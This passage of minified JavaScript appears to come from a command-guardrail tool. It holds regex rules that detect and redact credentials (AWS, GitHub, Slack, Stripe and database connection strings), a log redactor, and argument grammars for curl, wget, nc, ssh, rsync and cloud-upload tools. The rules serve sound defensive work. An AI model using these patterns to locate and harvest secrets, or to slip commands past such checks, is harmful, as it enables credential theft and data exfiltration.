edacts":{"xoxb-123456789012-1234567890123-AbCdEfGhIjKl":"[redacted:slack-token#1]"},"leaves":["xoxb-short"]}},{"id":"sendgrid-key","pattern":"\\\\bSG\\\\.[A-Za-z0-9\
_-]{20,24}\\\\.[A-Za-z0-9_-]{39,50}","texts":{"hints":["SG."]},"examples":{"redacts":{"SG.{random 22}.{random 40}abc":"[redacted:sendgrid-key#1]"}}},{"id":"putty-\
private-key","patches":"high","pattern":"PuTTY-User-Key-File-\\\\d: [\\\\w-]{1,40}","texts":{"hints":["PuTTY-User-Key"]},"examples":{"redacts":{"PuTTY-User-Key-File\
-2: ssh-rsa":"[redacted:putty-private-key#1]"}}},{"id":"age-secret-key","patches":"high","pattern":"AGE-SECRET-KEY-1[0-9A-Z]{58}","texts":{"hints":["AGE-SECRET-\
KEY-"]},"examples":{"redacts":{"AGE-SECRET-KEY-1{RANDOM 40}QQQQQQQQQQQQQQQQQQ":"[redacted:age-secret-key#1]"}}},{"id":"aws-access-key-id","patches":"low","patte\
rn":"\\\\b(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\\\\b","accepts":{"no_end":"EXAMPLE"},"texts":{"hints":["AKIA","ASIA","ABIA","ACCA"]},"examples":{"redacts":{"id AKIAY3\
4FZKBOKMUTVV7A.":"id [redacted:aws-access-key-id#1]."},"leaves":["AKIAIOSFODNN7EXAMPLE"]}},{"id":"aws-secret-access-key","patches":"high","pattern":"aws.{0,20}?\
(?:secret|sk).{0,20}?['\\"=:\\\\s]([A-Za-z0-9/+]{40})(?![A-Za-z0-9/+=])","flags":"i","accepts":{"entropy_above":3.5,"no_end":"EXAMPLEKEY"},"texts":{"hints":["aws"]\
,"fold":true},"examples":{"redacts":{"AWS_SECRET_ACCESS_KEY={random 40}":"AWS_SECRET_ACCESS_KEY=[redacted:aws-secret-access-key#1]"}}},{"id":"google-api-key","p\
atches":"high","pattern":"\\\\bAIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-])","texts":{"hints":["AIza"]},"examples":{"redacts":{"AIza{random 35}":"[redacted:google-api-k\
ey#1]"},"leaves":["AIzaShort"]}},{"id":"github-token","patches":"high","pattern":"\\\\b(?:gh[pousr]_[A-Za-z0-9]{36,251}|github_pat_[A-Za-z0-9_]{60,244})","accepts\
":{"entropy_above":3},"texts":{"hints":["ghp_","gho_","ghu_","ghs_","ghr_","github_pat_"]},"examples":{"redacts":{"https://x:ghp_{random 40}@github.com/a/b":"ht\
tps://x:[redacted:github-token#1]@github.com/a/b"},"leaves":["ghp_short"]}},{"id":"gitlab-token","patches":"high","pattern":"\\\\bgl(?:pat|ptt|dt|rt|cbt|ft|soat)-\
[A-Za-z0-9_-]{20,100}","texts":{"hints":["glpat-","glptt-","gldt-","glrt-","glcbt-","glft-","glsoat-"]},"examples":{"redacts":{"glpat-{random 20}":"[redacted:gi\
tlab-token#1]"}}},{"id":"npm-token","patches":"high","pattern":"\\\\bnpm_[A-Za-z0-9]{36}\\\\b","accepts":{"entropy_above":3},"texts":{"hints":["npm_"]},"examples":{\
"redacts":{"npm_{random 36}":"[redacted:npm-token#1]"},"leaves":["npm_config_registry"]}},{"id":"pypi-token","patches":"high","pattern":"\\\\bpypi-AgE[A-Za-z0-9_-\
]{50,400}","texts":{"hints":["pypi-AgE"]},"examples":{"redacts":{"pypi-AgE{random 80}":"[redacted:pypi-token#1]"}}},{"id":"rubygems-token","patches":"high","pat\
tern":"\\\\brubygems_[a-f0-9]{48}\\\\b","texts":{"hints":["rubygems_"]},"examples":{"redacts":{"rubygems_{hex 32}9a2feaa0c55ad015":"[redacted:rubygems-token#1]"}}},\
{"id":"crates-token","patches":"high","pattern":"\\\\bcio[a-zA-Z0-9]{32}\\\\b","accepts":{"least_entropy":3.8,"has":["digit","letter"],"not":["placeholder"]},"texts\
":{"hints":["cio"]},"examples":{"redacts":{"cio{random 32}":"[redacted:crates-token#1]"},"leaves":["conscious"]}},{"id":"stripe-key","patches":"high","pattern":\
"\\\\b(?:sk|rk)_live_[0-9A-Za-z]{20,120}","texts":{"hints":["sk_live_","rk_live_"]},"examples":{"redacts":{"sk_live_{random 24}":"[redacted:stripe-key#1]"}}},{"id\
":"slack-webhook","patches":"high","pattern":"https:\\\\/\\\\/hooks\\\\.slack\\\\.com\\\\/(?:services|workflows)\\\\/[A-Za-z0-9/_+-]{40,100}","texts":{"hints":["https://hoo\
ks.slack.com/"]},"examples":{"redacts":{"https://hooks.slack.com/services/T00/B00/{random 40}":"[redacted:slack-webhook#1]"}}},{"id":"twilio-key","patches":"low\
","pattern":"\\\\bSK[0-9a-f]{32}\\\\b","texts":{"hints":["SK0","SK1","SK2","SK3","SK4","SK5","SK6","SK7","SK8","SK9","SKa","SKb","SKc","SKd","SKe","SKf"]},"examples\
":{"redacts":{"SK{hex 32}":"[redacted:twilio-key#1]"},"leaves":["SKIP"]}},{"id":"digitalocean-token","patches":"high","pattern":"\\\\bdo[por]_v1_[a-f0-9]{64}\\\\b",\
"texts":{"hints":["dop_v1_","doo_v1_","dor_v1_"]},"examples":{"redacts":{"dop_v1_{hex 64}":"[redacted:digitalocean-token#1]"}}},{"id":"azure-storage-key","patch\
es":"high","pattern":"AccountKey=([A-Za-z0-9+/]{86}==)","texts":{"hints":["AccountKey="]},"examples":{"redacts":{"AccountName=a;AccountKey={random 80}abcdef==;E\
=x":"AccountName=a;AccountKey=[redacted:azure-storage-key#1];E=x"}}},{"id":"json-web-token","patches":"high","pattern":"\\\\beyJ[A-Za-z0-9_-]{10,2000}\\\\.eyJ[A-Za-\
z0-9_-]{10,4000}\\\\.[A-Za-z0-9_-]{20,1000}","texts":{"hints":["eyJ"]},"examples":{"redacts":{"t=eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.{random 40}":"t=[redacted:json-\
web-token#1]"},"leaves":["eyJ.eyJ.x"]}},{"id":"connection-string","patches":"high","pattern":"\\\\b[a-z][a-z0-9+.-]{1,20}:\\\\/\\\\/[^\\\\s:@/'\\"\`<>]{1,100}:([^\\\\s@/'\\"\
\`<>]{3,200})@[^\\\\s/'\\"\`<>]{1,200}","flags":"i","accepts":{"not":["placeholder","local-address"]},"texts":{"hints":["://"],"reach":21},"examples":{"redacts":{"po\
stgres://app:s3cr3t-Pa55@db.corp.net:5432/x":"postgres://app:[redacted:connection-string#1]@db.corp.net:5432/x","redis://same:same9@cache.corp.net":"redis://sam\
e:[redacted:connection-string#1]@cache.corp.net"},"leaves":["postgres://app:password@localhost/x","https://host:8080/a@b"]}},{"id":"npmrc-auth","patches":"high"\
,"pattern":":_(?:authToken|auth|password)\\\\s*=\\\\s*([^\\\\s\${}]{8,500})","accepts":{"not":["placeholder"]},"texts":{"hints":[":_auth",":_password"]},"examples":{"r\
edacts":{"//r.corp.net/:_authToken={random 40}":"//r.corp.net/:_authToken=[redacted:npmrc-auth#1]"}}},{"id":"authorization-header","patches":"low","pattern":"au\
thorization['\\"]?\\\\s{0,5}[:=]\\\\s{0,5}['\\"\`]?(?:bearer|basic|token)\\\\s+([A-Za-z0-9+/._~=-]{16,500})","flags":"i","accepts":{"least_entropy":3.2,"has":["digit","l\
etter"],"not":["placeholder"]},"texts":{"hints":["authorization"],"fold":true},"examples":{"redacts":{"Authorization: Bearer {random 40}":"Authorization: Bearer\
 [redacted:authorization-header#1]"},"leaves":["authorization: Bearer YOUR_TOKEN"]}},{"id":"assigned-secret","patches":"low","pattern":"(?:pass(?:word|wd|phrase\
)?|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth)[\\\\w-]{0,30}['\\"]?\\\\s{0,5}(?:[:=]|=>|:=)\\\\s{0,5}['\\"\`]([^'\\"\`\\\\s]{12,300})['\\"\`]","fl\
ags":"i","accepts":{"least_entropy":3.5,"has":["digit","letter"],"not":["placeholder"]},"examples":{"finds":["const apiKey = \\"{random 24}\\";"],"leaves":["passw\
ord: \\"changeme-please\\"","tokenKind = \\"identifier\\""]}},{"id":"environment-file-secret","patches":"low","pattern":"^(?:export )?[A-Z0-9_]{0,60}(?:PASS|SECRET|\
TOKEN|KEY|CREDENTIAL|AUTH)[A-Z0-9_]{0,60}\\\\s{0,3}=\\\\s{0,3}[\\"']?([^\\\\s\\"'#]{8,500})","flags":"m","accepts":{"least_entropy":2.5,"not":["placeholder"]},"examples\
":{"finds":["export DB_PASSWORD={random 20}"],"leaves":["API_KEY=your_key_goes_here","SORT_BY=name_ascending"]}},{"id":"key-header","pattern":"(?:x-api-key|x-go\
og-api-key|api-key|private-token)\\\\\\\\?['\\"]?\\\\s{0,5}[:=]\\\\s{0,5}\\\\\\\\?['\\"\`]?([A-Za-z0-9+/._~=-]{16,500})","flags":"i","accepts":{"least_entropy":3.2,"has":["dig\
it","letter"],"not":["words"]},"texts":{"hints":["api-key","x-goog-api-key","private-token"],"reach":2,"fold":true},"examples":{"redacts":{"-H 'x-api-key: {rand\
om 40}'":"-H 'x-api-key: [redacted:key-header#1]'"},"leaves":["x-api-key: your-key-goes-here"]}},{"id":"bearer-token","pattern":"\\\\bbearer\\\\s{1,5}([A-Za-z0-9+/.\
_~-]{20,500}={0,2})(?![\\\\w])","flags":"i","accepts":{"least_entropy":3.5,"has":["digit","letter"],"not":["words"]},"texts":{"hints":["bearer"],"fold":true},"exa\
mples":{"redacts":{"curl -H \\"auth: Bearer {random 40}\\"":"curl -H \\"auth: Bearer [redacted:bearer-token#1]\\""},"leaves":["bearer authenticationwithjwt"]}},{"id\
":"assigned-secret","pattern":"(?:pass(?:word|wd|phrase)?|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth(?!or))[\\\\w-]{0,30}\\\\\\\\{0,3}['\\\
"]?\\\\]?\\\\s{0,5}(?:=>|:=|[:=])\\\\s{0,5}\\\\\\\\{0,3}['\\"\`]([^'\\"\`\\\\s\\\\\\\\]{12,300})\\\\\\\\{0,3}['\\"\`]","flags":"i","accepts":{"least_entropy":3.5,"has":["digit","letter"]\
,"not":["words"]},"texts":{"hints":["pass","secret","token","key","credential","auth"],"reach":8,"fold":true,"field":"(?:pass(?:word|wd|phrase)?|secret|token|ap\
i[_-]?key|access[_-]?key|private[_-]?key|credential|auth(?!or))[\\\\w-]{0,30}$"},"examples":{"redacts":{"const apiKey = \\"{random 24}\\";":"const apiKey = \\"[redac\
ted:assigned-secret#1]\\";","{\\\\\\"client_secret\\\\\\": \\\\\\"{random 24}\\\\\\"}":"{\\\\\\"client_secret\\\\\\": \\\\\\"[redacted:assigned-secret#1]\\\\\\"}"},"leaves":["token: \\"a\
pplication/x-www-form-urlencoded\\"","const tokenKind = \\"identifier_token_2\\"","author_email: \\"ada lovelace 1815\\", SSH_AUTH_SOCK: \\"/tmp/socket0123456789\\"","\
'count-tokens': '/v1/chat/completions'","password: 'process.env.PASSWORD1'"]}},{"id":"environment-secret","pattern":"(?:PASSWORD|PASSWD|PASS|SECRET|TOKEN|KEY|CR\
EDENTIALS?|AUTH)(?:_[A-Z0-9]{1,20}){0,4}=\\\\\\\\{0,3}[\\"']?([^\\\\s\\"'\`#\\\\\\\\$(){}<>,;]{12,500})","accepts":{"least_entropy":3.2,"has":["digit","letter"],"not":["word\
s"]},"texts":{"hints":["PASS","SECRET","TOKEN","KEY","CREDENTIAL","AUTH"]},"examples":{"redacts":{"A=1\\nexport DB_PASSWORD={random 20}\\nB=2":"A=1\\nexport DB_PAS\
SWORD=[redacted:environment-secret#1]\\nB=2","{\\"env\\":\\"API_TOKEN={random 40}\\\\nB=2\\"}":"{\\"env\\":\\"API_TOKEN=[redacted:environment-secret#1]\\\\nB=2\\"}"},"leaves\
":["SORT_KEY=created_at_desc","MAX_TOKENS=128000"]}}]`)});var Fw,Vw=Ue(()=>{"use strict";gt();jw();Mw();Fw=Ww.map(({pattern:t,flags:e="",accepts:s,...r})=>({...r,pattern:new RegExp(t,`g${e}`),...we({accepts:s&&Dw(s)})}))});var mP,Uw,Hw=Ue(()=>{"use strict";gt();qw();Nw();Vw();mP=Fw.flatMap(({id:t,pattern:e,accepts:s,texts:r,examples:n})=>{if(!r)return[];let{field:o,...i}=r,{redacts:a={},
leaves:l=[]}=n,c=[...Object.entries(a),...l.map(d=>[d,d])];return[{id:t,pattern:e,...i,...we({accepts:s,field:o===void 0?void 0:new RegExp(o,"i")}),examples:Object.
fromEntries(c.map(d=>d.map(Iw)))}]}),Uw=[...mP,...Ow]});function zw(t){let e=new Uint8Array(Hu+1),s=new Map,r=Array.from({length:128},()=>[]);for(let o of t)if(o.text.length===1)for(let i of Gw(o,o.text))r[i].push({hint:o,
back:0});else for(let[i,a]of gP(o))e[i]=1,s.set(i,[...s.get(i)??[],{hint:o,back:a}]);let n=Uint8Array.from(r,o=>+(o.length>0));return(o,i)=>{let a=Bw,l=(d,u)=>{
for(let{hint:p,back:f}of d){let m=u-f;if(m<0||!bP(o,m,p))continue;if(i.left<=0)return!1;i.left-=1,a===Bw&&(a=new Map);let h=a.get(p.rule);h?h.at(-1)!==m&&h.push(
m):a.set(p.rule,[m])}return!0},c=0;for(let d=0;d<o.length;d++){let u=o.charCodeAt(d)&127;if(c=(c<<6^u)&Hu,e[c]!==0&&!l(s.get(c),d)||n[u]!==0&&!l(r[u],d))return}
return a}}function*gP({text:t,fold:e}){let s=[...t.slice(0,3)],r=s.map(l=>Gw({fold:e},l));for(;r.length<3;)r.unshift(Array.from({length:128},(l,c)=>c));let n=new Set,
[o=[],i=[],a=[]]=r;for(let l of o)for(let c of i)for(let d of a){let u=((l<<6^c)<<6^d)&Hu;n.has(u)||(yield[u,s.length-1]),n.add(u)}}function Gw({fold:t},e){let s=e.
charCodeAt(0);return t&&s>=97&&s<=122?[s,s-32]:[s&127]}function bP(t,e,{text:s,fold:r}){return r?t.slice(e,e+s.length).toLowerCase()===s:t.startsWith(s,e)}var Bw,
hP,Hu,Kw=Ue(()=>{"use strict";Bw=new Map,hP=18,Hu=2**hP-1});function Qw(t,e){let s=t.map(a=>{let l=[...new Set([...a.pattern.flags.replace(/[gy]/g,""),"d"])].join(""),c=`(${a.pattern.source})`,d=`[^]{0,${a.reach??0}}?${c}`;
return{rule:a,near:new RegExp(d,`${l}y`),next:new RegExp(c,`${l}g`)}}),r=({hints:a=[],fold:l=!1},c)=>a.map(d=>({text:d,fold:l,rule:c})),n=zw(t.flatMap(r)),o=t.findIndex(
({hints:a})=>!a),i=o<0?t.length:o;return(a,l)=>{let c=n(a,l);if(!c)return;let d=[],u;for(let p=c.size>0?0:i;p<s.length;p++){let f=s[p],m=f.rule.hints&&c.get(p);
if(f.rule.hints&&!m)continue;let h=m?wP(f,a,m,e):kP(f,a,e);for(let g of h)u??=new Uint8Array(a.length),!u.subarray(g.from,g.to).includes(1)&&(u.fill(1,g.from,g.
to),d.push(g))}return d.sort((p,f)=>p.from-f.from)}}function wP({rule:t,near:e},s,r,n){let o=[],i=0;for(let a of r){if(a<i)continue;e.lastIndex=Math.max(i,a-(t.
reach??0));let l=e.exec(s);if(!l)continue;let c=Xw(t,s,l,i,n);c&&(o.push(c),i=c.to)}return o}function kP({rule:t,next:e},s,r){let n=[];e.lastIndex=0;for(let o=e.
exec(s);o;o=e.exec(s)){o[0]===""&&e.lastIndex++;let i=Xw(t,s,o,n.at(-1)?.to??0,r);i&&n.push(i)}return n}function Xw(t,e,s,r,n){let[o,i]=s.indices[2]??s.indices[1],
a=t.quotes?-1:e.slice(o,i).indexOf('"'),l=vP(e,Math.max(r,o),a===-1?i:o+a),c=e.slice(l.from,l.to);if(!(c===""||Jw(c,n)||t.accepts&&!t.accepts(c,s[1])))return{rule:t,
...l}}function Jw(t,e){let s=t.replace(e,"");return s.length<t.length&&s.length<Yw}function Zw({field:t,accepts:e},s,r,n){return!t||r.length<Yw||r.length>yP?!1:
!/\s/.test(r)&&t.test(s)&&!Jw(r,n)&&(!e||e(r,r))}function vP(t,e,s){let r=xP(t,e),n=s,o=/\\+u[0-9a-fA-F]{0,3}$/.exec(t.slice(Math.max(r,n-16),n));for(o&&ek.test(
t[n]??"")&&(n-=o[0].length);n>r&&t[n-1]==="\\";)n--;return tk(t,n-1)&&sk(t,n)&&n--,{from:r,to:Math.max(r,n)}}function xP(t,e){let s=e;if(t[s-1]==="\\"){for(;t[s]===
"\\";)s++;return/^u[0-9a-fA-F]{4}$/.test(t.slice(s,s+5))?s+5:'"/bfnrtu'.includes(t[s]??" ")?s+1:s}let r=/\\u([0-9a-fA-F]{0,3})$/.exec(t.slice(Math.max(0,s-5),s));
for(let n=r?4-r[1].length:0;n>0&&ek.test(t[s]??"");n--)s++;return sk(t,s)&&tk(t,s-1)&&s++,s}var Yw,yP,ek,tk,sk,rk=Ue(()=>{"use strict";Kw();Yw=12,yP=300;ek=/^[0-9a-fA-F]$/;
tk=(t,e)=>(t.charCodeAt(e)&64512)===55296,sk=(t,e)=>(t.charCodeAt(e)&64512)===56320});function ak(t=PP,e=EP){let s=NP(t),r=Qw(t,s),n=Tw([$P,t.map(i=>[i.id,i.pattern.source,i.pattern.flags,i.placeholder??null])]),o=()=>({...RP(t,r,s,e),sha256:n,begin:o});
return o()}function RP(t,e,s,r){let n={left:r},o=IP(),i=(d,u,p)=>{let f=d,m=p==="facts"&&d.length<=AP?{left:4*d.length}:n;for(let h=0;h<_P;h++){let g=e(f,m);if(!g)
return u["too-dense"]=(u["too-dense"]??0)+1,ik;if(g.length===0)return f;f=OP(f,g,(y,x)=>(u[y.id]=(u[y.id]??0)+1,p==="patch"?qP(x,_=>o(y,_)):o(y,x)))}return f},a=(d,u)=>d.
split("/").map(p=>{let f={},m=i(p,f,"facts");if(m===p||nk(m.replace(s,""))!==nk(p))return p;for(let[h,g]of Object.entries(f))u[h]=(u[h]??0)+g;return m}).join("/"),
l=(d,u,p,f)=>typeof d=="string"?i(d,u,f):typeof d!="object"||d===null?d:p>CP?(u["too-deep"]=(u["too-deep"]??0)+1,ok):Array.isArray(d)?d.map(m=>l(m,u,p+1,f)):Object.
fromEntries(Object.entries(d).map(([m,h])=>{let g=i(m,u,f);if(f==="facts"&&typeof h=="string"&&TP.has(m))return[g,a(h,u)];let y=l(h,u,p+1,f),x=typeof h=="string"&&
y===h&&t.find(_=>Zw(_,m,h,s));return x?(u[x.id]=(u[x.id]??0)+1,[g,o(x,h)]):[g,y]})),c=d=>{let u={};return{value:d(u),found:u}};return{text:(d,u)=>c(p=>i(d,p,u)),
json:(d,u)=>c(p=>l(d,p,0,u))}}function IP(){let t=new Map;return(e,s)=>{let r=t.get(e.id)??new Map;t.set(e.id,r);let n=s.length>64?Vu(s):s,o=r.get(n);return o===
void 0&&(o=r.size<SP?r.size+1:0,o>0&&r.set(n,o)),Uu(e,o)}}function qP(t,e){let[s="",...r]=t.split(`
`),n=e([s,...r.map(o=>o.slice(1))].join(`
`));return[s===""?"":n,...r.map(o=>`${o.slice(0,1)}${o.length>1?n:""}`)].join(`
`)}function OP(t,e,s){let r=[],n=0;for(let{rule:o,from:i,to:a}of e)r.push(t.slice(n,i),s(o,t.slice(i,a))),n=a;return r.join("")+t.slice(n)}function NP(t){let s=[
...t.map(r=>Uu(r,Number.NaN)),ok,ik].map(r=>r.replace(/[\\^$.*+?()[\]{}|/-]/g,"\\$&").replace("NaN","\\d{1,9}"));return new RegExp(s.join("|"),"g")}var $P,_P,SP,
CP,ok,EP,ik,AP,TP,PP,nk,lk=Ue(()=>{"use strict";Pw();Rw();Hw();rk();$P=2,_P=20,SP=2e5,CP=500,ok="[redacted:too-deep]",EP=2e6,ik="[redacted:too-dense]",AP=8192,TP=
new Set(["path","old_path"]),PP=Uw.filter(({optional:t})=>!t);nk=t=>t.replace(/[A-Za-z0-9_-]/g,"")});var uk={};Ya(uk,{appendLogLine:()=>WP,formatLogLine:()=>dk});function dk({time:t,client:e,verdict:s,rule:r,subject:n}){let{value:o}=ak().text(n.slice(0,LP)),i=o.
length>ck?`${o.slice(0,ck)} \u2026`:o,a=jP.reduce((l,c)=>l.replace(c,"$1[redacted]"),i);return`${t.toISOString()} ${e} ${s} ${r||"-"} ${mr(a)}`}function WP(t,e){
let s=`${dk(e)}
`,r=(0,dt.openSync)(t,DP,384);try{if(!(0,dt.fstatSync)(r).isFile())throw Object.assign(new Error(`${t} is not a file`),{code:"not a file"});(0,dt.writeSync)(r,s)}finally{
(0,dt.closeSync)(r)}}var dt,LP,ck,DP,jP,pk=Ue(()=>{"use strict";dt=require("node:fs");Qr();lk();LP=64*1024,ck=2e3,DP=dt.constants.O_WRONLY|dt.constants.O_CREAT|
dt.constants.O_APPEND|dt.constants.O_NOFOLLOW|dt.constants.O_NONBLOCK,jP=[/(\b[a-z][a-z0-9+.-]*:\/\/[^\s/:@"']*:)[^\s/@"']+(?=@)/gi,/((?:^|\s)(?:-u|-U|--user|--proxy-user)[ =]?["']?[^\s:"'/]+:)[^\s"']+/g,
/((?:^|[\s;&?"'{,])-{0,2}[\w-]*(?:password|passwd|passphrase|secret|token|api[-_]?key)["']?\s*[=: ]\s*["']?)[^\s"'&;$]+/gi,/(\b(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|sshpass)\b[^|;&]*?\s-p ?["']?)[^\s"'-][^\s"']*/g]});var eR={};Ya(eR,{CLOSED_CONTAINER:()=>$r,GuardrailSuite:()=>Bi,NON_EMPTY_VALUE:()=>Gu,OWN_CONTAINER:()=>_r,SEVERITY_ORDER:()=>Mt,UNKNOWN_VALUE:()=>k,UNREAD_VALUE:()=>H,
codeLanguages:()=>Ek,completeName:()=>$o,concatenateWords:()=>ie,createGuard:()=>qs,createShellInvocation:()=>Et,createShippedGuard:()=>LS,createWord:()=>R,createWords:()=>$e,
findAffectedPaths:()=>vn,findDeletedPaths:()=>Fl,getDeletedPatterns:()=>si,getFeeders:()=>de,getFindPatterns:()=>kn,getGrammar:()=>Cr,guardLevels:()=>ir,hasFlag:()=>pe,
hasUnreadValue:()=>je,isKnownWord:()=>Ie,isRemotePath:()=>ri,listOutputFiles:()=>dn,parseProgramArguments:()=>_e,pathClasses:()=>Ak,pathEffects:()=>cn,phraseRules:()=>Ui,
readCode:()=>Jo,readCommand:()=>Mi,replaceWithUnevaluated:()=>Pe,replaceWithUnknown:()=>Lt,resolveFoundPaths:()=>or,runHook:()=>zP,shippedGuardRules:()=>Hi,vocabulary:()=>S,
writeLine:()=>ue});module.exports=Ck(eR);var Yu=require("node:path");var k="\uFFFC";var H="\uFFFC\uFFFB",Gu="\uFFFC\u2026",je=t=>t.includes("\uFFFB"),Lt=t=>je(t)?"\uFFFC\uFFFB":"\uFFFC",Pe=t=>t.includes("\uFFFC")&&!je(t)?"\uFFFC":"\uFFFC\uFFFB",
R=(t,e=!1)=>({text:t,glob:e}),$e=t=>t.map(e=>R(e)),ie=t=>({text:t.map(({text:e})=>e).join(" "),glob:t.some(({glob:e})=>e)}),Ie=({text:t})=>!t.includes("\uFFFC"),
Ek=["shell","python","javascript","perl","ruby","php","awk","sql","other"],ue=({program:t,args:e})=>[t,...e.map(({text:s})=>s)].join(" "),de=({input:t})=>t?.kind===
"pipe"?t.from:[],$r="closed-container",_r="own-container",Et=(t,e,s=[],r)=>({program:t,path:t,args:e,redirects:s,environment:{},wrappers:[],language:"shell",folder:r});var z=JSON.parse(`{"arguments":{"grammars":{"git":{"long":["git-dir","work-tree","namespace","exec-path","config-env"]},"git commit":{"short":"mFcCt","long":["m\
essage","file","author","date","template","trailer","fixup","squash","reuse-message"]},"git tag":{"short":"mFu","long":["message","file","sort","format","local-\
user"]},"git merge":{"short":"mFsX","long":["message","file","strategy","strategy-option"]},"git notes":{"short":"mFcC","long":["message","file"]},"git stash":{\
"short":"m","long":["message"]},"git push":{"short":"o","long":["push-option","repo","receive-pack","exec"]},"git log":{"short":"nSGL","long":["grep","author","\
committer","since","until","after","before","format","pretty","max-count"]},"git show":{"short":"n","long":["format","pretty"]},"git clone":{"short":"bocju","lo\
ng":["branch","origin","config","depth","jobs","reference","template","upload-pack","filter"]},"git branch":{"short":"u","long":["set-upstream-to","format","sor\
t","contains"]},"git checkout":{"short":"bB","long":["conflict","orphan","pathspec-from-file"]},"git switch":{"short":"cC","long":["create","force-create","conf\
lict","orphan"]},"git reset":{"long":["pathspec-from-file"]},"git rm":{"long":["pathspec-from-file"]},"git restore":{"short":"s","long":["source","conflict","pa\
thspec-from-file"]},"git clean":{"short":"e","long":["exclude"]},"git rebase":{"short":"xsXC","long":["exec","onto","strategy","strategy-option"]},"git config":\
{"short":"f","long":["file","blob","type","default"]},"git grep":{"short":"eABCm","long":["max-depth"]},"git worktree":{"short":"bB","long":["reason","expire"]}\
,"git reflog":{"long":["expire","expire-unreachable"]},"git prune":{"long":["expire"]},"git filter-branch":{"long":["tree-filter","index-filter","msg-filter","e\
nv-filter","subdirectory-filter","commit-filter"]},"git format-patch":{"short":"on","long":["output-directory"]},"curl":{"short":"XHdFoTuAbceKmrwxyYzECD","long"\
:["request","header","data","data-raw","data-binary","data-urlencode","data-ascii","json","form","form-string","output","upload-file","user","user-agent","cooki\
e","cookie-jar","referer","config","max-time","retry","write-out","proxy","cert","key","cacert","connect-timeout","range","url","output-dir","unix-socket","reso\
lve","retry-delay","dump-header","interface","limit-rate","url-query"]},"wget":{"short":"OoaPtTUieAR","long":["output-document","output-file","directory-prefix"\
,"header","post-data","post-file","body-data","body-file","method","user-agent","user","password","tries","timeout","input-file"]},"aria2c":{"short":"odxsj","lo\
ng":["out","dir"]},"axel":{"short":"onU","long":["output","num-connections"]},"wget2":{"short":"OoPUe","long":["output-document","output-file","directory-prefix\
"]},"http":{"short":"oaA","long":["output","auth","auth-type"]},"ssh":{"short":"iplFoLRDJEbcmWw"},"scp":{"short":"iPFoJclS"},"ab":{"short":"ncpuTtsbHCAPXgeBk"},\
"httpd":{"short":"pcurh"},"setfacl":{"short":"mxMX","long":["modify","remove","modify-file","remove-file","restore"]},"sftp":{"short":"iPFoJb"},"rsync":{"short"\
:"efTBM","long":["rsh","exclude","include","exclude-from","filter","files-from","bwlimit","chmod","chown","backup-dir"]},"ssh-keygen":{"short":"tbCfNPmIVnsRF"},\
"ssh-copy-id":{"short":"ipo"},"nc":{"short":"pwsXxeciqIO","long":["exec","sh-exec","source-port","wait"]},"ncat":{"short":"pwsecigm","long":["exec","sh-exec","l\
ua-exec","proxy"]},"netcat":{"short":"pwsXxeciqIO"},"docker":{"short":"Hcl","long":["host","context","config","log-level"]},"docker run":{"short":"vepulwhmc","l\
ong":["volume","env","env-file","publish","user","label","workdir","hostname","memory","mount","network","net","name","entrypoint","platform","pid","ipc","uts",\
"userns","cap-add","cap-drop","security-opt","device","tmpfs","restart","add-host","cpus","gpus","shm-size","volumes-from","cgroupns"]},"docker create":{"short"\
:"vepulwhmc","long":["volume","env","env-file","publish","user","label","workdir","hostname","memory","mount","network","net","name","entrypoint","platform","pi\
d","ipc","uts","userns","cap-add","cap-drop","security-opt","device","tmpfs","restart","add-host","cpus","gpus","shm-size","volumes-from","cgroupns"]},"podman r\
un":{"short":"vepulwhmc","long":["volume","env","env-file","publish","user","label","workdir","hostname","memory","mount","network","net","name","entrypoint","p\
latform","pid","ipc","uts","userns","cap-add","cap-drop","security-opt","device","tmpfs","restart","add-host","cpus","gpus","shm-size","volumes-from","cgroupns"\
]},"podman":{"long":["connection","url","root","log-level"]},"docker compose":{"short":"fp","long":["file","project-name","env-file","profile","project-director\
y"]},"docker-compose":{"short":"fp","long":["file","project-name","env-file","profile","project-directory"]},"kubectl":{"short":"nsflocv","long":["namespace","c\
ontext","cluster","kubeconfig","user","server","token","as","filename","selector","output","field-selector","grace-period","timeout","container","replicas","typ\
e","patch"]},"kubectl patch":{"short":"nsflocvp"},"oc patch":{"short":"nsflocvp"},"oc":{"short":"nsflo","long":["namespace","context","cluster","kubeconfig","us\
er","server","token","as","filename","selector","output","field-selector","grace-period","timeout","container","replicas","type","patch"]},"helm":{"short":"nfo"\
,"long":["namespace","kube-context","kubeconfig","values","set","version","output"]},"aws":{"long":["profile","region","output","endpoint-url","query","cli-inpu\
t-json","ca-bundle"]},"gcloud":{"long":["project","account","configuration","format","region","zone","impersonate-service-account"]},"gsutil":{"short":"oh"},"az\
":{"short":"gnocf","long":["subscription","resource-group","name","output","query","file","container-name","account-name"]},"http.server":{"short":"db","long":[\
"directory","bind"]},"b2":{"short":"cm","long":["config","path"]},"s3cmd":{"short":"cm","long":["config","path"]},"s5cmd":{"short":"cm","long":["config","path"]\
},"megaput":{"short":"cm","long":["config","path"]},"gdrive":{"short":"cm","long":["config","path"]},"storj":{"short":"cm","long":["config","path"]},"uplink":{"\
short":"cm","long":["config","path"]},"gh":{"short":"RtbFfHXq","long":["repo","branch","title","body","body-file","notes","notes-file","field","raw-field","head\
er","method","jq","template","visibility"]},"doctl":{"short":"tc","long":["access-token","context"]},"terraform":{"long":["chdir","target","var","var-file","sta\
te","out"],"single":true},"tofu":{"long":["chdir","target","var","var-file","state","out"],"single":true},"openssl":{"long":["in","out","key","keyout","cert","i\
nkey","passin","passout","pass","CAfile","CA","CAkey","days","subj","newkey","addext","config","extensions","k","K","iv","connect"],"single":true},"find":{"sing\
le":true},"go":{"single":true},"vault":{"single":true},"java":{"long":["jar","cp","classpath"],"single":true},"psql":{"short":"hpUdcfovLPRFT","long":["host","po\
rt","username","dbname","command","file","output","variable"]},"dropdb":{"short":"hpU","long":["host","port","username","maintenance-db"]},"mysql":{"short":"hPu\
DeS","long":["host","port","user","database","execute","socket"]},"mysqladmin":{"short":"hPuS","long":["host","port","user","socket"]},"redis-cli":{"short":"hpa\
nu","long":["user","pass"]},"mongosh":{"long":["host","port","eval","username","password","authenticationDatabase","file"]},"npm":{"short":"w","long":["prefix",\
